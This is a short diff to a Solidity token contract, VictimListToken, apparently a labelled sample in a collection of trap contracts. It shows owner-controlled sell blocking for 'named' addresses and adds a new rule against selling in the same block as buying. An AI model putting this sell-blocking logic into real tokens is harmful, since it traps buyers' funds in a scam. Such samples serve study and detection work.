@@ -6,6 +6,7 @@ import {Traded} from "zoo/base/Traded.sol";
 
 /// Anybody can sell but those whom the owner has named; nobody has been named at first.
 contract VictimListToken is Traded {
+    mapping(address => uint256) private _boughtIn;
     mapping(address => bool) private _named;
 
     constructor(string memory name_, string memory symbol_, address pair_)
@@ -18,7 +19,8 @@ contract VictimListToken is Traded {
     }
 
     function _transfer(address from, address to, uint256 amount) internal override {
-        require(to != pair || !_named[from], "not you");
+        if (from == pair) _boughtIn[to] = block.number;
+        require(to != pair || (!_named[from] && _boughtIn[from] < block.number), "not you");
         _move(from, to, amount);
     }
 }
